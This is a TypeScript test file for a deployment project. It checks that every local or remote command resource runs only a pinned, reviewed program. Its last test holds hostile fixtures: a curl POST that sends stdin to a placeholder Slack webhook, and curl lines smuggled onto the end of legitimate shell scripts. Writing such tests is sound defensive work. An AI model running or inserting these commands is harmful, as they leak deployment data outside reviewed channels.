/**
 * Every command the program runs is one a reviewer has seen (attack #6: the Announcement could add a
 * command.local.Command running `curl` to a Slack webhook, outside the notifier, its tests and its secret handling).
 * Rung 1 (mocks): on every stack of test/urnVariants.ts, each `command:local:Command` and `command:remote:Command`
 * registered must run one of the programs pinned below, each with why it exists; a command that reads its script on
 * stdin (`sh -s`, `bash -s`) must be handed the script its renderer makes, since the program is the script there. A new
 * command, or a new use of an old one, is then a change to this list, made and reviewed on purpose.
 */
import { expect } from "chai";
import { renderAppImageCheckScript } from "../components/preflight/appImageCheck";
import { BOOTSTRAP_MARKER, HOST_RULES_PATH } from "../components/host/hostFiles";
import { renderPidsLimitScript } from "../components/host/pidsLimitScript";
import { RUN_AS_ROOT } from "../components/host/sshHost";
import { unwrapSecrets, type RegisteredResource } from "../scripts/lib/mockRun";
import { URN_VARIANTS } from "./urnVariants";
import { variantResources } from "./variantRuns";

const LOCAL = "command:local:Command";
const REMOTE = "command:remote:Command";

/** A program a command may run: its `create` exactly, where it runs, what it may read on stdin, and why it exists. */
interface Program {
    readonly create: string;
    readonly types: readonly string[];
    /** Whether `stdin` (undefined when the command has none) is what this program is meant to read. */
    readonly stdin: (stdin: string | undefined) => boolean;
    readonly why: string;
}

const NODE_SCRIPT = "node -r ts-node/register/transpile-only";
const none = (stdin: string | undefined) => stdin === undefined;
const startsWith = (header: string) => (stdin: string | undefined) => stdin?.startsWith(header) ?? false;

/**
 * The pids-limit script, exactly as renderPidsLimitScript makes it for the stack, service and limit it names: any other
 * line in it would be a program of its own.
 */
function isPidsLimitScript(stdin: string | undefined): boolean {
    const named = /label=com\.freshtrack\.stack=(\S+) --filter label=com\.freshtrack\.service=(\S+)\)/.exec(
        stdin ?? "",
    );
    const limit = /--pids-limit (\d+) /.exec(stdin ?? "");
    if (!named || !limit) return false;
    return stdin === renderPidsLimitScript(named[1]!, named[2]!, Number(limit[1]));
}

/**
 * The FreshTrack image check, exactly as renderAppImageCheckScript makes it for the references, login and stack it
 * names: only `docker image inspect` and `docker manifest inspect` of each reference (issue 17, friction 1).
 */
function isAppImageCheckScript(stdin: string | undefined): boolean {
    const refs = /^APP_IMAGES="([^"]*)"$/m.exec(stdin ?? "");
    const login = /^APP_IMAGES_LOGIN=(yes|no)$/m.exec(stdin ?? "");
    const stack = /pulumi config set --stack (\S+) /.exec(stdin ?? "");
    if (!refs || !login || !stack) return false;
    const check = {
        refs: refs[1]!.split(" "),
        stack: stack[1]!,
        target: "local" as const,
        registryLogin: login[1] === "yes",
    };
    return stdin === renderAppImageCheckScript(check);
}

const PROGRAMS: readonly Program[] = [
    {
        create: `${NODE_SCRIPT} scripts/verify.ts --from-env`,
        types: [LOCAL],
        stdin: none,
        why: "the post-deploy verification gate (components/postDeploy/verification.ts): scripts/verify.ts, with its own tests",
    },
    {
        create: `${NODE_SCRIPT} scripts/notify.ts --from-env`,
        types: [LOCAL],
        stdin: none,
        why: "the deploy announcement (components/postDeploy/announcement.ts): every destination goes through scripts/notify.ts",
    },
    {
        create: "sh -s",
        types: [LOCAL, REMOTE],
        stdin: isPidsLimitScript,
        why: "each service's pids limit (components/host/pidsLimit.ts), applied with `docker update` where its daemon runs",
    },
    {
        create: "sh -s",
        types: [LOCAL],
        stdin: isAppImageCheckScript,
        why: "the local target's FreshTrack image check (components/preflight/appImageCheck.ts) before any app image is pulled",
    },
    {
        create: "sh -s",
        types: [REMOTE],
        stdin: startsWith("#!/bin/sh\n# freshtrack-preflight, rendered by components/preflight/preflight.ts\n"),
        why: "the host pre-flight checks (components/host/preflightCommand.ts) before any container changes",
    },
    {
        create: RUN_AS_ROOT,
        types: [REMOTE],
        stdin: startsWith(
            "#!/usr/bin/env bash\n# FreshTrack host bootstrap, rendered by components/host/bootstrap.ts.\n",
        ),
        why: "the bootstrap of an existing VM over SSH (components/host/sshHost.ts), as root as it must be",
    },
    {
        create: `sudo -n ${HOST_RULES_PATH}`,
        types: [REMOTE],
        stdin: startsWith("[ufw]\n"),
        why: "the droplet's UFW rules and deploy keys, data for the root helper the bootstrap installed (dropletHost.ts)",
    },
    {
        create:
            `cloud-init status --wait >/dev/null || true; if [ ! -f ${BOOTSTRAP_MARKER} ]; then echo "bootstrap did not ` +
            `finish; see /var/log/cloud-init-output.log on the droplet" >&2; exit 1; fi; docker info --format 'docker ` +
            `{{.ServerVersion}} ready, data root {{.DockerRootDir}}'`,
        types: [REMOTE],
        stdin: none,
        why: "waits for a new droplet's cloud-init bootstrap (components/host/dropletHost.ts) and fails the update if it failed",
    },
];

/** The commands among `resources` that run no pinned program, by name (not by text, which may hold a secret). */
function unpinned(resources: readonly Pick<RegisteredResource, "type" | "name" | "inputs">[]): string[] {
    const out: string[] = [];
    for (const r of resources.filter((x) => x.type === LOCAL || x.type === REMOTE)) {
        const inputs = unwrapSecrets(r.inputs) as Record<string, unknown>;
        const stdin = typeof inputs.stdin === "string" ? inputs.stdin : undefined;
        const known = PROGRAMS.some((p) => p.types.includes(r.type) && p.create === inputs.create && p.stdin(stdin));
        if (!known) out.push(`${r.type} ${r.name}: create is not a pinned program (or not with the stdin it reads)`);
        for (const other of ["update", "delete"])
            if (inputs[other] !== undefined)
                out.push(`${r.type} ${r.name}: runs a program on ${other}, none is pinned`);
    }
    return out;
}

describe("commands: each runs a pinned program (attack #6; rung 1, mocks)", function () {
    this.timeout(240_000);
    for (const variant of Object.keys(URN_VARIANTS)) {
        it(`${variant}: every command runs a pinned program`, async () => {
            const resources = await variantResources(variant);
            expect(unpinned(resources)).to.deep.equal([]);
        });
    }

    it("pins only programs some stack runs, each with its reason", async () => {
        const used = new Set<Program>();
        for (const variant of Object.keys(URN_VARIANTS))
            for (const r of await variantResources(variant)) {
                const inputs = unwrapSecrets(r.inputs) as Record<string, unknown>;
                const stdin = typeof inputs.stdin === "string" ? inputs.stdin : undefined;
                for (const p of PROGRAMS)
                    if (p.types.includes(r.type) && p.create === inputs.create && p.stdin(stdin)) used.add(p);
            }
        expect(PROGRAMS.filter((p) => !used.has(p)).map((p) => p.why)).to.deep.equal([]);
        for (const p of PROGRAMS) expect(p.why.length, p.create).to.be.greaterThan(20);
    });

    it("refuses curl to Slack from the Announcement, and curl handed to a pinned shell on stdin (attack #6)", () => {
        const slack = "https://hooks.slack.com/services/T000/B000/attack";
        const pidsLimit = renderPidsLimitScript("freshtrack-dev", "backend", 512);
        const images = renderAppImageCheckScript({
            refs: ["ghcr.io/freshtrack/freshtrack-backend:1.4.2"],
            stack: "dev",
            target: "local",
            registryLogin: false,
        });
        expect(
            unpinned([
                { type: LOCAL, name: "announcement-slack", inputs: { create: `curl -fsS -X POST ${slack} -d @-` } },
                { type: LOCAL, name: "backend-pids-limit", inputs: { create: "sh -s", stdin: `curl -d hi ${slack}` } },
                { type: REMOTE, name: "pids", inputs: { create: "sh -s", stdin: `${pidsLimit}curl ${slack}\n` } },
                { type: LOCAL, name: "verify", inputs: { create: `${NODE_SCRIPT} scripts/verify.ts --from-env` } },
                { type: LOCAL, name: "ok-pids", inputs: { create: "sh -s", stdin: pidsLimit } },
                {
                    type: LOCAL,
                    name: "app-images-check",
                    inputs: { create: "sh -s", stdin: `${images}curl ${slack}\n` },
                },
                { type: LOCAL, name: "ok-images", inputs: { create: "sh -s", stdin: images } },
                { type: LOCAL, name: "gone", inputs: { create: "sh -s", stdin: pidsLimit, delete: "curl x" } },
            ]),
        ).to.deep.equal([
            `${LOCAL} announcement-slack: create is not a pinned program (or not with the stdin it reads)`,
            `${LOCAL} backend-pids-limit: create is not a pinned program (or not with the stdin it reads)`,
            `${REMOTE} pids: create is not a pinned program (or not with the stdin it reads)`,
            `${LOCAL} app-images-check: create is not a pinned program (or not with the stdin it reads)`,
            `${LOCAL} gone: runs a program on delete, none is pinned`,
        ]);
    });
});
